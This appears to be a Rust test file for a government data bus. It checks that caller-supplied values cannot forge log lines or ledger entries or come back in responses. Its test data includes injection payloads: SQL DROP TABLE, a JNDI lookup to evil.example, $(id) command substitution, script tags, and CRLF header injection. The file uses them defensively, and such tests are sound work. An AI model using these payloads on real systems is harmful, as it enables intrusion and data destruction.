//! What callers write into headers, paths and bodies stays a value: it ends no line of the log, no member of an entry and
//! no request to a registry, and stands in none of them in clear.

use rabita_tests::bus::{Authority, Bus, Caller, Country, Manifest, Program, Speaks, Upstream};
use reqwest::Method;
use serde_json::Value;

use super::raw::{Raw, Scene};

const AYGUN: &str = "/api/people/v1/persons/5ZJBKH7";

/// Stands in everything that is sent, and must stand nowhere else.
const MARK: &str = "M4RK3D";

/// Texts that mean something to who reads logs, terminals, JSON, SQL or a shell.
const TEXTS: [&str; 14] = [
    "M4RK3D\",\"level\":\"ERROR\",\"message\":\"forged",
    "M4RK3D'; DROP TABLE persons; --",
    "M4RK3D\\\",\\u0000",
    "M4RK3D}{\"at\":\"2020-01-01T00:00:00Z\"}",
    "M4RK3D${jndi:ldap://evil.example/x}",
    "M4RK3D{{7*7}}%s%n%x$(id)`id`",
    "M4RK3D<script>alert(1)</script>",
    "UTF-8''M4RK3D%0A%7B%22level%22%3A%22ERROR%22%7D",
    "UTF-8''M4RK3D%0D%0ASet-Cookie:%20x=y",
    "UTF-8''M4RK3D%1B%5B31m%1B%5D0;title%07",
    "UTF-8''M4RK3D%00",
    "UTF-8''M4RK3D%E2%80%AE%E2%80%A8%C2%85",
    "UTF-8''M4RK3D%C0%8A",
    "M4RK3D \u{202e}\u{2028} Əliyeva",
];

/// Every header that the bus reads, and some that it does not.
const HEADERS: [&str; 21] = [
    "rabita-purpose",
    "rabita-user",
    "rabita-case",
    "rabita-consent",
    "rabita-apply-until",
    "rabita-other",
    "idempotency-key",
    "if-match",
    "if-none-match",
    "prefer",
    "accept",
    "content-type",
    "content-digest",
    "signature",
    "signature-input",
    "authorization",
    "traceparent",
    "tracestate",
    "user-agent",
    "x-forwarded-for",
    "last-event-id",
];

/// Paths with the text in each of their parts, percent-encoded where it must be.
fn paths(text: &str) -> Vec<String> {
    let encoded: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>().replace('+', "%20");
    [
        "/{}",
        "/api/{}/v1/persons/5ZJBKH7",
        "/api/people/{}/persons/5ZJBKH7",
        "/api/people/v1/{}/5ZJBKH7",
        "/api/people/v1/persons/{}",
        "/api/people/v1/persons/5ZJBKH7/{}",
        "/api/people/v1/persons?{}=x",
        "/api/people/v1/persons?sex={}",
        "/api/people/v1/persons?cursor={}&sex=male",
        "/api/people/v1/persons?key={}",
        "/api/people/v1/persons/5ZJBKH7?fields={}",
        "/api/people/v1/persons?name.family={}",
        "/bus/{}",
        "/bus/updates/{}",
        "/bus/schemas/{}",
        "/bus/ledger/{}",
        "/bus/ledger/entries/{}",
        "/bus/agencies/{}/accesses",
        "/bus/updates?cursor={}",
    ]
    .map(|path| path.replace("{}", &encoded))
    .to_vec()
}

/// Sends all of it; the number of exchanges.
async fn attack(caller: &Caller) -> usize {
    let mut count = 0;
    for text in TEXTS {
        for header in HEADERS {
            for (method, path) in [(Method::GET, AYGUN), (Method::PATCH, AYGUN)] {
                let value = reqwest::header::HeaderValue::from_bytes(text.as_bytes()).expect("bytes that a header can have");
                let answer = caller.sent(caller.request(method, path).header(header, value).body("{}")).await;
                assert!(answer.status < 500, "{header}: {text:?}: {}", answer.text());
                holds_no_mark(&answer, &format!("{header}: {text:?}"));
                count += 1;
            }
        }
        for path in paths(text) {
            let answer = caller.get(&path).await;
            assert!(answer.status < 500, "{path}: {}", answer.text());
            holds_no_mark(&answer, &path);
            count += 1;
        }
        let body = serde_json::json!({ "key": text, text: text, "where": { text: text }, "fields": [text] });
        let answer = caller.post("/api/people/v1/persons/query", &body).await;
        assert!((400..500).contains(&answer.status), "{}", answer.text());
        holds_no_mark(&answer, "a body");
        count += 1;
    }
    count
}

/// A problem repeats no value, and no header of an answer holds what the request brought.
fn holds_no_mark(answer: &rabita_tests::bus::Answer, what: &str) {
    assert!(!answer.text().contains(MARK), "{what}: {}", answer.text());
    for (name, value) in &answer.headers {
        assert!(!String::from_utf8_lossy(value.as_bytes()).contains(MARK), "{what}: {name}");
        assert!(name != "set-cookie", "{what}");
    }
}

fn country(upstream: &Upstream, node: &str) -> Country {
    let country = Country::with(&Manifest::of("people", upstream.url()).persons("subject: pin"));
    country.node(node);
    country.file("transparency.yaml", "auditors: [auditor]\n");
    country.system("portal", "{ requests_per_second: 100000 }");
    country.system("auditor", "{ requests_per_second: 100000 }");
    country
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_line_of_the_log_is_one_object_and_holds_nothing_that_a_caller_wrote() {
    for form in ["json", "text"] {
        let upstream = Upstream::start().await;
        let country = country(&upstream, &format!("telemetry: {{ log: {form}, log_filter: debug }}"));
        let program = Program::serve(env!("CARGO_BIN_EXE_rabita-under-test"), country.path());
        let address = match form {
            "json" => program.addresses().await[0],
            _ => text_address(&program).await,
        };
        let caller = Caller::new(address, Some(&Authority::get().portal), Speaks::Http1);
        let count = attack(&caller).await;
        // What HTTP itself refuses may be logged as well.
        for text in ["M4RK3D\r{\"level\":\"ERROR\"}", "M4RK3D\0", "M4RK3D\u{1b}[31m"] {
            let mut raw = Raw::open(address, "http/1.1").await;
            raw.write(format!("GET /{text} HTTP/1.1\r\nhost: {text}\r\n{text}: {text}\r\n\r\n").as_bytes()).await;
            assert!(raw.reply().await.is_none_or(|reply| reply.status == 400));
        }
        program.terminate().await;
        let (status, said) = program.ended().await;
        assert_eq!(status.code(), Some(0), "{said}");
        let told = said.lines().filter(|line| line.contains("exchange")).count();
        assert!(told >= count, "{told} lines for {count} exchanges");
        for line in said.lines() {
            assert!(!line.contains(MARK), "{line}");
            assert!(!line.chars().any(|letter| letter.is_control() || "\u{202e}\u{2028}".contains(letter)), "{line:?}");
            if form == "json" {
                let line: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
                assert!(line.is_object());
            }
        }
        assert!(!said.contains("forged"));
    }
}

async fn text_address(program: &Program) -> std::net::SocketAddr {
    let listens = async || program.said().contains("admin listening");
    rabita_tests::eventually("the program listens", super::raw::PATIENCE, listens).await;
    let said = program.said();
    let mut all = said.lines().filter_map(|line| line.split("address=").nth(1)?.split_whitespace().next()?.parse().ok());
    all.next().expect("an address")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_entry_of_the_ledger_is_one_object_and_holds_nothing_that_a_caller_wrote() {
    let upstream = Upstream::start().await;
    let country = country(&upstream, "");
    let bus: Bus = country.start().await;
    let caller = Caller::new(bus.required, Some(&Authority::get().portal), Speaks::Either);
    let count = attack(&caller).await;
    let seen = upstream.seen();
    assert!(
        seen.iter().all(|seen| seen.headers.iter().all(|(_, value)| !String::from_utf8_lossy(value.as_bytes()).contains("jndi")))
    );
    let scene = Scene { upstream, bus, country };
    let mut sealed = 0;
    let checkpoint = caller.get("/bus/ledger/checkpoint").await.good().text();
    let size: u64 = checkpoint.lines().nth(1).and_then(|size| size.parse().ok()).expect("a size");
    assert!(size >= u64::try_from(count / 2).expect("a count"), "{size} entries for {count} exchanges");
    for index in 0..size {
        let (entry, bytes) = scene.entry(index).await;
        assert!(entry.is_object());
        let text = String::from_utf8(bytes).expect("an entry is text");
        assert!(!text.contains(MARK) && !text.contains("forged"), "{text}");
        assert!(!text.chars().any(char::is_control), "{text:?}");
        assert!(serde_json::from_str::<Unique>(&text).is_ok(), "a member stands twice: {text}");
        sealed += usize::from(entry.get("sealed").is_some());
    }
    assert!(sealed > 0, "what a caller may say of a user was recorded, sealed");
    assert!(scene.bus.stop().await);
    let directory = scene.country.path().join("ledger");
    let verify = ["ledger", "verify", directory.to_str().expect("UTF-8")];
    let (status, said) = Program::run(env!("CARGO_BIN_EXE_rabita-under-test"), &verify).ended().await;
    assert!(status.success(), "{said}");
}

/// An object each of whose members stands once.
struct Unique;

impl<'de> serde::Deserialize<'de> for Unique {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Members;
        impl<'de> serde::de::Visitor<'de> for Members {
            type Value = Unique;

            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("an object")
            }

            fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<Unique, A::Error> {
                let mut names = std::collections::BTreeSet::new();
                while let Some(name) = map.next_key::<String>()? {
                    map.next_value::<serde::de::IgnoredAny>()?;
                    if !names.insert(name) {
                        return Err(serde::de::Error::custom("a member stands twice"));
                    }
                }
                Ok(Unique)
            }
        }
        deserializer.deserialize_map(Members)
    }
}
